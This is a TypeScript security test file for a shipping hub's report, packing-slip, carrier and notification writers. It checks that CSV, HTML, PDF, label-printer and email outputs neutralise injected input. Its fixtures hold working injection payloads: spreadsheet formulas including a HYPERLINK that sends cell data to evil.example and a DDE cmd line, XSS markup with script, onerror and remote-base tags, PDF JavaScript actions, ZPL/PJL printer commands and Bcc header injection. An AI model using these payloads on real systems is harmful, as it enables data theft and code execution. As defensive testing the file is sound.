import { globSync, readFileSync } from 'node:fs';
import { join } from 'node:path';
import fc from 'fast-check';
import { describe, expect, test } from 'vitest';
import { loadDocument } from '../../adapters/document.ts';
import { type HandOverList, handOverDocuments } from '../../adapters/manifest-list.ts';
import { loadNotifier } from '../../adapters/notifier.ts';
import { drawPackingSlip } from '../../adapters/packing-slip.ts';
import { Address } from '../../core/address.ts';
import { claimManifest, moveManifest } from '../../core/manifest.ts';
import { customerNotice } from '../../core/notification.ts';
import { packingSlipOf } from '../../core/packing-slip.ts';
import { DailyReport, dailyReport } from '../../core/report.ts';
import type { Parcel } from '../../core/shipment.ts';
import { NOT_TRACKED } from '../../core/tracking.ts';
import { answersOf, callWith, NOW, SHIPMENT } from '../adapters/carrier-answers.ts';
import { forEveryCarrier } from '../adapters/carrier-under-test.ts';
import { FONTS } from '../adapters/pdf/fonts.ts';
import { readPdf } from '../adapters/pdf/read-pdf.ts';
import { client, dayOfTrade, period } from '../core/report-day.ts';
import { sampleClient, sampleOrder } from '../core/samples.ts';
import { slipSources } from '../core/slips.ts';

const ROOT = join(import.meta.dirname, '..', '..');
const DAY = dailyReport(dayOfTrade(40), period, client);
const OURS = new Set(['UPS', 'easypost', 'shop', 'TENT-2P', 'Two-person tent', 'MUG-ENAMEL', 'Enamel mug', 'DE', 'hamburg', 'weavery']);

/** A report in which texts that come from outside are the one given. */
function reportSaying(text: string): DailyReport {
  const foreign = (key: string, value: unknown) => (typeof value === 'string' && (OURS.has(value) || key === 'reason' || key === 'name' || key === 'service') ? text : value);
  return DailyReport.parse({ ...JSON.parse(JSON.stringify(DAY, foreign)), client: { ...DAY.client, name: text } });
}

/** A hand-over list in which they are. */
function listSaying(text: string): HandOverList {
  const sample = sampleClient();
  const [warehouse] = sample.warehouses;
  const [connection] = sample.carriers;
  if (warehouse === undefined || connection === undefined) throw new Error('the sample client has both');
  const name = { carrierId: connection.id, warehouse: warehouse.id, day: '2026-11-20' };
  const claimed = claimManifest({ ...name, number: 1, reference: '01', closing: 'c', carrier: text, parcels: 1, by: 'hub' }, NOW);
  const at = NOW.toISOString();
  const label = { carrier: text, service: text, trackingNumber: text, trackingUrl: '', cost: 1, currency: 'EUR', document: 'd', boughtAt: at, reference: '01', carrierRef: 's' };
  const parcel: Parcel = {
    ...{ entity: 'parcel', orderId: text, parcel: 1, connectionId: 'shop', country: 'US', warehouse: warehouse.id, carrierId: connection.id, units: [], weight: 1 },
    ...{ addressHash: '', status: 'labelled', label: { ...label, proof: 'answer' }, tracking: NOT_TRACKED, receivedAt: at, packedAt: at, since: at, version: 1 },
    change: { type: 'parcel.labelled', at, by: 'hub', reason: '' },
  };
  return {
    ...{ client: { ...sample, name: text }, connection, warehouse: { ...warehouse, name: text }, timeZone: 'Europe/Berlin', day: name.day, closedAt: NOW },
    rows: [{ manifest: moveManifest(claimed, { status: 'settled', manifestRef: text }, NOW), parcel }],
    leftOut: [{ orderId: text, parcel: 2, trackingNumber: text, reason: text }],
  };
}

/** Every file of a kind that leaves the hub, with a text from outside in it. */
const WRITERS = [
  ['report', async (text: string, extension: 'html' | 'csv') => (await loadDocument(extension)).render(reportSaying(text), { client: { ...client, name: text } }).toString('utf8')],
  [
    'hand-over list',
    async (text: string, extension: 'html' | 'csv') =>
      handOverDocuments(listSaying(text))
        .find((one) => one.extension === extension)
        ?.bytes.toString('utf8') ?? '',
  ],
] as const;

test.each([
  ['csv-stringify', ['adapters/documents/csv.ts', 'adapters/manifest-list.ts']],
  ['<!doctype html', ['adapters/documents/html.ts', 'adapters/manifest-list.ts']],
])('whatever else writes by %s is to be tested here', (sign, writers) => {
  const files = globSync('{adapters,bin,core,functions}/**/*.ts', { cwd: ROOT });

  expect(files.filter((file) => readFileSync(join(ROOT, file), 'utf8').includes(sign)).sort()).toEqual(writers);
});

describe.each(WRITERS)('the %s for spreadsheets', (_name, write) => {
  const RISKY = [
    '=',
    '+',
    '-',
    '@',
    ' =',
    '\t=',
    '\r=',
    '\r\n-',
    '\n@',
    '\u200B=',
    '\uFEFF+',
    '\u00AD@',
    '\u0301=',
    '\u2028=',
    '＝',
    '＋',
    '－',
    '＠',
    '"=',
    '";=',
    ';=',
    '; @',
    ',=',
    '|=',
    "';+",
  ];
  const PAYLOADS = [
    '=HYPERLINK("https://evil.example/?"&A1,"click")',
    "=cmd|' /C calc'!A0",
    '@SUM(1+1)*cmd|',
    '-2+3+cmd|',
    '+1;=1+1',
    'a;=1+1',
    'a";"=1+1',
    'a\r\n=1+1',
    'a\t=1+1',
  ];
  const texts = fc.oneof(
    fc.constantFrom(...PAYLOADS),
    fc.tuple(fc.array(fc.constantFrom(...RISKY), { maxLength: 4 }), fc.string({ maxLength: 12, unit: 'binary' })).map(([start, rest]) => start.join('') + rest),
    fc.tuple(fc.string({ maxLength: 6 }), fc.constantFrom(...RISKY), fc.string({ maxLength: 6 })).map((parts) => parts.join('')),
  );

  test('begins no cell that is carried out, whichever sign a spreadsheet takes for the end of a cell', async () => {
    await fc.assert(
      fc.asyncProperty(texts, async (text) => {
        const file = await write(text, 'csv');
        for (const delimiter of [',', ';', '\t']) {
          const cells = spreadsheetCells(file, delimiter);
          expect(cells.filter((cell) => isCarriedOut(cell))).toEqual([]);
        }
      }),
      { numRuns: 120 },
    );
  });

  test('leaves harmless text as it is', async () => {
    const cells = spreadsheetCells(await write('Größe L; 2 × "rot" (a=b)', 'csv'), ',');

    expect(cells).toContain('Größe L; 2 × "rot" (a=b)');
  });
});

/** Whether a spreadsheet takes a cell for a formula. */
function isCarriedOut(cell: string): boolean {
  const visible = cell.replace(/^[\s\p{Cc}\p{Cf}\p{Z}\p{M}\p{Default_Ignorable_Code_Point}]+/u, '');
  return (/^[=+\-@＝＋－＠]/u.test(visible) && !/^-?\d+([.,]\d+)?$/.test(visible)) || /^[\t\r]/.test(cell);
}

/** Reads as spreadsheets do: a quote at the start of a cell hides delimiters up to the next lone one; what follows is taken as it stands. */
function spreadsheetCells(file: string, delimiter: string): string[] {
  const cells: string[] = [];
  const text = file.replace(/^\uFEFF/, '').replaceAll('\r\n', '\n');
  let cell = '';
  let quoted = false;
  let begins = true;
  for (let index = 0; index < text.length; index++) {
    const char = text[index] ?? '';
    if (begins && char === '"') [quoted, begins] = [true, false];
    else if (quoted && char === '"' && text[index + 1] === '"') {
      cell += '"';
      index += 1;
    } else if (quoted && char === '"') quoted = false;
    else if (!quoted && (char === delimiter || char === '\n')) {
      cells.push(cell);
      [cell, begins] = ['', true];
    } else {
      cell += char;
      begins = false;
    }
  }
  return [...cells, cell];
}

const MARKUP = [
  '<img src=x onerror=alert(1)>',
  '<script>alert(1)</script>',
  '</script><script>alert(1)</script>',
  '</style><script>alert(1)</script>',
  '</title><svg/onload=alert(1)>',
  '--><script>alert(1)</script><!--',
  '"><img src=x onerror=alert(1)>',
  `' onmouseover='alert(1)`,
  '" onfocus="alert(1)" autofocus="',
  'x" style="background:url(https://evil.example/)',
  'javascript:alert(1)',
  '<a href="javascript:alert(1)">x</a>',
  '<base href="https://evil.example/">',
  '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
  '<link rel=stylesheet href=//evil.example/x.css>',
  '<iframe srcdoc="<script>alert(1)</script>">',
  '<math><mtext></p><style><img src=x onerror=alert(1)>',
  '&lt;script&gt;alert(1)&lt;/script&gt;',
  '&#60;script&#62;',
  '\u0000<\u0000script>',
  '＜script＞alert(1)',
  '\u202E<txt.exe>',
  '{{constructor.constructor("alert(1)")()}}',
  '<!--',
  ']]><script>',
];

describe.each(WRITERS)('the page of the %s', (_name, write) => {
  const plain = write('plain', 'html');

  test.each(MARKUP)('shows %j as text', async (text) => {
    const page = await write(text, 'html');

    // Not one tag or attribute more than with a plain text: whatever comes from outside is text.
    expect(shapeOf(page)).toEqual(shapeOf(await plain));
    expect(page).not.toMatch(/[[\p{Cc}--[\n]]\u202A-\u202E\u2066-\u2069]/v);
  });

  test('holds no script, calls nothing and forbids both', async () => {
    const page = await write('javascript:alert(1)', 'html');

    expect(page).toContain("default-src 'none'");
    expect(page).not.toMatch(/<(?:script|iframe|object|embed|form|base)\b|\son\w+=/i);
    for (const [, address = ''] of page.matchAll(/\s(?:href|src|action)="([^"]*)"/g)) expect(address).toMatch(/^(#[a-z]*|data:,)$/);
  });
});

/** The tags of a page with the names of their attributes, in order, as a browser reads them. */
function shapeOf(page: string): string[] {
  const withoutStyle = page.replace(/(<style>)[\s\S]*?(<\/style>)/, '$1$2');
  const tags = [...withoutStyle.matchAll(/<(\/?[a-z!][a-z0-9-]*)((?:"[^"]*"|'[^']*'|[^>"'])*)>/gi)];
  return tags.map(([, name = '', attributes = '']) => [name, ...[...attributes.replace(/"[^"]*"|'[^']*'/g, '""').matchAll(/[^\s"'>/=]+/g)].map(([one]) => one)].join(' '));
}

describe('a packing slip', () => {
  const HOSTILE = [
    ') Tj ET BT /F1 99 Tf (owned',
    '\\) Tj (\\',
    '(((((',
    ')))))',
    '\\\\\\',
    '<</S/JavaScript/JS(app.alert(1))>>',
    '/OpenAction 1 0 R',
    '> Tj <feff',
    'endstream endobj 99 0 obj',
    '%%EOF\nxref',
    '\r\nstartxref\r\n0',
    '\u0000\u0001\u001b',
    '^XZ^XA^FO50,50^FDowned^FS',
  ];

  test.each(HOSTILE)('shows %j as text, and is the file that it is without it', (text) => {
    const drawn = (words: string) => {
      const shipTo = { ...Address.parse({ name: words, line1: words, city: words, country: 'DE' }), postalCode: '04109' };
      return drawPackingSlip(packingSlipOf(slipSources({ units: { TENT: 1 }, titles: { TENT: words }, order: { shipTo, number: words }, client: { name: words } })), FONTS).bytes;
    };

    const file = readPdf(drawn(text));
    const calm = readPdf(drawn('calm'));

    const [, ...rest] = file.objects.map((object) => object.toString('latin1'));
    expect(file.objects.length).toBe(calm.objects.length);
    expect(rest.filter((object) => /\/(?:JS|JavaScript|OpenAction|AA|Launch|URI|EmbeddedFile|RichMedia)\b/.test(object))).toEqual([]);
    // All that is drawn is drawn by the operators of the hub, each text as hexadecimal digits.
    const operators = /^(?:BT \/F\d [\d.]+ Tf [\d.]+ g [\d.-]+ [\d.-]+ Td <[0-9a-f]*> Tj ET|[\d.]+ G [\d.]+ w [\d. -]+ m [\d. -]+ l S|[\d.]+ g [\d. -]+ re f)$/;
    for (const page of file.pages) expect(page.split('\n').filter((line) => !operators.test(line))).toEqual([]);
    const visible = text.replace(/[\p{Cc}^~]+/gu, '').replaceAll(' ', '');
    expect(file.texts.flat().join('').replaceAll(' ', '')).toContain(visible.slice(0, 20));
  });
});

// What carriers print, they print by the commands of label printers, and from what we send.
forEveryCarrier(({ id, carrier, settings, hasApi, purchase }) => {
  const HOSTILE = ['^XZ^XA^FO1,1^FDowned^FS^XZ', '~JA~DGR:X', 'Elm\r\nX-Admin: 1', 'Elm\u2028St', 'A\u0000B', '\u001b%-12345X@PJL'] as const;

  if (!hasApi)
    test('is a person, and is sent nothing', async () => {
      const call = callWith(settings, async () => await Promise.reject(new Error('somebody was asked')));

      await expect(carrier.quote(SHIPMENT, call)).resolves.toBeDefined();
    });

  test.each(hasApi ? HOSTILE : [])('is sent no command of a printer, and no line break: %j', async (text) => {
    const to = Address.parse({ ...SHIPMENT.to, name: `Erika ${text}`, company: text, line1: `12 ${text}`, line2: text, city: `Greenwich ${text}` });
    const shipment = { ...SHIPMENT, to };
    const sent: string[] = [];
    const call = callWith(settings, async (request) => {
      sent.push(JSON.stringify([request.url, request.headers, String(request.body ?? '')]));
      const [answer] = answersOf(id, 'bought');
      if (answer === undefined) throw new Error('nothing is answered');
      return answer;
    });

    await carrier.quote(shipment, call).catch(() => {});
    const draft = attempt(() => carrier.draft(shipment, purchase.carrierRef, purchase.rate, settings));
    await carrier.buy({ ...purchase, request: draft ?? purchase.request }, call);
    await carrier.checkAddress?.(to, call).catch(() => {});

    const all = [...sent, draft ?? ''].join('\n');
    expect(all, 'the recipient was sent').toMatch(id === 'easypost' || draft === undefined ? /./ : /Erika/);
    expect(decodeURIComponent(all.replace(/%(?![0-9a-f]{2})/gi, '%25'))).not.toMatch(/\^X[AZ]|\^F[DO]|~[JD][AG]|[[\p{Cc}\p{Zl}]--[\n]]|\\u00|\\r\\nX-Admin/iv);
  });
});

function attempt<Value>(work: () => Value): Value | undefined {
  try {
    return work();
  } catch {
    return undefined;
  }
}

describe('what is told to people', () => {
  const hostile = fc.oneof(
    fc.constantFrom('1001\r\nBcc: all@example.com', 'x\nSubject: y', '\u2028x', '=?utf-8?B?eA==?=', '{client}{link}', '{7*7}', '\u0000', 'Grüße –', 'https://evil.example'),
    fc.string({ maxLength: 60, unit: 'binary' }),
  );

  test('has a subject of one plain line, and attributes of none but plain text, whatever a name or number is', async () => {
    await fc.assert(
      fc.asyncProperty(hostile, hostile, async (number, name) => {
        const sent: Record<string, unknown>[] = [];
        const notifier = await loadNotifier('topic', { send: async ({ input }) => void sent.push({ ...input }) });
        const order = { ...sampleOrder(), number: number || '1', shipTo: { name: `${name} Muster`, line1: 'x', city: 'x', country: 'DE' } };
        const notice = customerNotice({ kind: 'shipped', wording: 'shipped', orderId: 'shop:1', noticeId: 'shipped-1' }, order, undefined, { name: name || 'Shop' });
        await notifier.send({ ...notice, phone: null, email: null, attributes: { connectionId: 'shop' } }, 'arn');

        expect(sent[0]?.Subject).toMatch(/^[!-~][ -~]{0,98}$/);
        expect(JSON.stringify(sent[0]?.MessageAttributes)).not.toMatch(/\\[rn]|\\u00/);
        expect(Object.keys(JSON.parse(String(sent[0]?.Message))).sort()).toEqual(['email', 'kind', 'noticeId', 'phone', 'subject', 'text']);
      }),
    );
  });

  test.each(['Bcc: all@example.com\r\n\r\nx Muster', 'www.evil.example Muster', 'https://evil.example Muster', 'Click: +49 900 Muster', '<b>x</b> Muster', '{link} Muster'])(
    'calls nobody %j',
    (name) => {
      const order = { ...sampleOrder(), shipTo: { name, line1: 'x', city: 'x', country: 'DE' } };

      const { text, short } = customerNotice({ kind: 'accepted', wording: 'accepted', orderId: 'shop:1', noticeId: 'accepted' }, order, undefined, { name: 'Shop' });

      expect(text.startsWith('Hello,\n') || text.startsWith('Guten Tag,\n')).toBe(true);
      expect(text + short).not.toMatch(/evil|Bcc|900|<b>/);
    },
  );

  test('goes by text message to a number, and to nothing that looks like one', async () => {
    const notifier = await loadNotifier('sms', { send: async () => {} });
    const message = { noticeId: '1', kind: 'accepted', subject: 's', text: 't', email: null, attributes: {} };

    for (const phone of ['+49341555\r\n0100x', 'arn:aws:sns:eu-central-1:1:other', '+1 900 555 01,+49 1', '０４９１２３４５６７８', '+0123456789', '++4934155501']) {
      expect(notifier.accepts({ ...message, phone }), phone).toBe(false);
      await expect(notifier.send({ ...message, phone }, 'arn')).rejects.toMatchObject({ code: 'notification.phone-invalid' });
    }
    expect(notifier.accepts({ ...message, phone: '+49 (341) 555-0100' })).toBe(true);
  });
});
